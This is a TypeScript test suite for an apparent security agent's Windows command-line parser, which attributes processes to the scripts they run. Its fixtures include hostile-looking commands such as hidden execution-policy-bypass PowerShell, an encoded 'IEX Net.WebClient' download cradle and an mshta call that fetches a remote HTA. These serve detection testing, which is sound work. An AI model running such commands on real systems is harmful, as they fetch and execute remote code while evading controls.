import fc from 'fast-check'
import t from 'tap'
import { isInteractiveShell, scriptOf } from '../../../agent/correlate/actor.ts'
import {
  behindCmd,
  commandKey,
  commandWords,
  inFolder,
  windowsProgram,
} from '../../../agent/correlate/windows-actor.ts'
import { holds } from '../../support/holds.ts'

const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const process = (commandLine: string) => ({
  ...{ pid: 7, commandLine, workingDirectory: 'C:\\Jobs\\' },
})
const PS = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"'

const scripts: readonly (readonly [commandLine: string, script: string | undefined])[] = [
  [`${PS} -NoP -ExecutionPolicy Bypass -File "C:\\a b\\up.ps1" -To x`, 'C:\\a b\\up.ps1'],
  ['powershell.exe -ep bypass -w hidden -f .\\up.ps1', 'C:\\Jobs\\up.ps1'],
  ['powershell -nop -c "& \'C:\\a b\\up.ps1\' -x"', 'C:\\a b\\up.ps1'],
  ['powershell C:\\up.ps1', 'C:\\up.ps1'],
  ['powershell -Command "Invoke-WebRequest http://192.0.2.1"', undefined],
  ['pwsh -NoLogo up.ps1', 'C:\\Jobs\\up.ps1'],
  [`powershell -noni -enc ${encode('. C:\\up.ps1 -Now')}`, 'C:\\up.ps1'],
  [`powershell /e ${encode('IEX\n (New-Object Net.WebClient)')}`, 'IEX (New-Object Net.WebClient)'],
  [`powershell -ec ${encode('x'.repeat(200))}`, `${'x'.repeat(119)}…`],
  ['powershell -enc not!base64', undefined],
  ['powershell -NoP -Command -', undefined],
  ['powershell - x.ps1', undefined],
  [`powershell -e ${encode('whoami > C:\\a.txt')}`, 'whoami > C:\\a.txt'],
  [`powershell -ea AAAA -ex RemoteSigned -File u.ps1`, 'C:\\Jobs\\u.ps1'],
  ['C:\\Windows\\SYSTEM32\\cmd.exe /c ""C:\\tools\\shell.cmd" x"', 'C:\\tools\\shell.cmd'],
  ['cmd /c "C:\\a b\\x.bat"', 'C:\\a b\\x.bat'],
  ['cmd.exe /d /s /C call up.bat now', 'C:\\Jobs\\up.bat'],
  ['cmd /q /c start "" /b wscript //B C:\\x.vbs', 'C:\\x.vbs'],
  ['cmd /c copy a b', undefined],
  ['"C:\\Windows\\System32\\WScript.exe" //E:vbscript "C:\\a b\\u.txt" -x', 'C:\\a b\\u.txt'],
  ['cscript.exe //nologo sub\\u.js', 'C:\\Jobs\\sub\\u.js'],
  ['mshta http://192.0.2.1/a.hta', 'http://192.0.2.1/a.hta'],
  ['rundll32.exe C:\\Users\\a\\x.dll,Run 5', 'C:\\Users\\a\\x.dll'],
  ['rundll32 "C:\\a b\\x.dll" , Run', 'C:\\a b\\x.dll'],
  ['rundll32 shell32.dll,Control_RunDLL', 'shell32.dll'],
  ['regsvr32 /s /u C:\\x.ocx', 'C:\\x.ocx'],
  ['C:\\Windows\\Microsoft.NET\\v4\\MSBuild.exe /nologo ..\\p.csproj', 'C:\\p.csproj'],
  ['C:\\Python312\\python.exe -u up.py --all', 'C:\\Jobs\\up.py'],
  ['py -3 C:\\up.py', 'C:\\up.py'],
  ['pythonw -m http.server', 'http.server'],
  ['python -c "print(1)"', undefined],
  ['"C:\\Program Files\\nodejs\\node.exe" C:\\s.js', 'C:\\s.js'],
  ['java -cp lib -jar C:\\i.jar', 'C:\\i.jar'],
  ['C:\\Windows\\System32\\svchost.exe -k netsvcs', undefined],
  ['C:\\tools\\shell.cmd', 'C:\\tools\\shell.cmd'],
]
for (const [commandLine, script] of scripts) {
  t.test(commandLine.slice(0, 70), async (t) => t.equal(scriptOf(process(commandLine)), script))
}

t.test('a shell is typed into where it has neither a script nor a text', async (t) => {
  for (const line of ['cmd', 'C:\\Windows\\system32\\cmd.exe', 'powershell -NoLogo -ex bypass']) {
    const isBare = !line.includes('bypass')
    t.equal(isInteractiveShell(process(line)), isBare, line)
  }
  for (const line of ['cmd /c dir', 'powershell -f x.ps1', 'powershell -enc AAAA', 'notepad']) {
    t.notOk(isInteractiveShell(process(line)), line)
  }
})

t.test('words are those of Windows', async (t) => {
  // The examples of Microsoft's documentation of the rules.
  t.strictSame(commandWords('"a b c" d e'), ['a b c', 'd', 'e'])
  t.strictSame(commandWords('"ab\\"c" "\\\\" d'), ['ab"c', '\\', 'd'])
  t.strictSame(commandWords('a\\\\\\b d"e f"g h'), ['a\\\\\\b', 'de fg', 'h'])
  t.strictSame(commandWords('a\\\\\\"b c d'), ['a\\"b', 'c', 'd'])
  t.strictSame(commandWords('a\\\\\\\\"b c" d e'), ['a\\\\b c', 'd', 'e'])
  t.strictSame(commandWords('x "" "a ""b"" c"'), ['x', '', 'a "b" c'])
})

t.test('a definition and its process are one command, however each is spelled', async (t) => {
  const one = [
    'powershell.exe -File C:\\a.ps1',
    'powershell -File  "C:\\a.ps1"',
    '%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\a.ps1',
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.EXE" -File C:\\A.ps1',
  ]
  t.strictSame([...new Set(one.map(commandKey))], ['powershell.exe -file c:\\a.ps1'])
  const run = 'C:\\Windows\\SYSTEM32\\cmd.exe /c ""C:\\tools\\shell.cmd""'
  t.equal(commandKey(behindCmd(run)), commandKey('C:\\tools\\shell.cmd'))
  t.not(commandKey('a.exe x'), commandKey('a.exe y'))
  t.equal(commandKey('"C:\\Program Files\\a b\\x.exe" -q'), 'x.exe -q')
})

t.test('paths', async (t) => {
  t.equal(windowsProgram('C:\\Windows\\System32\\CMD.EXE'), 'cmd')
  t.equal(inFolder('C:\\a\\b', '..\\c.ps1'), 'C:\\a\\c.ps1')
  t.equal(inFolder(undefined, 'c.ps1'), 'c.ps1')
  t.equal(inFolder('C:\\a', '\\\\host\\share\\c.ps1'), '\\\\host\\share\\c.ps1')
})

t.test('properties', async (t) => {
  const text = fc.string({ unit: fc.constantFrom('"', '\\', ' ', '/', 'c', '-', 'é', ',', '.ps1') })
  const total = fc.property(
    fc.constantFrom('', 'cmd ', 'powershell ', 'rundll32 '),
    text,
    (a, b) => {
      const line = a + b
      void [
        scriptOf(process(line)),
        commandKey(line),
        behindCmd(line),
        isInteractiveShell(process(line)),
      ]
    },
  )
  holds(t, 'never throws', total)
  const word = fc
    .string({ unit: fc.constantFrom('a', ' ', 'b\\', '.') })
    .filter((w) => !/\\$/.test(w))
  const back = fc.property(fc.array(word, { minLength: 1 }), (words) => {
    t.strictSame(commandWords(words.map((w) => `"${w}"`).join(' ')), words)
  })
  holds(t, 'quoted words read back', back)
})
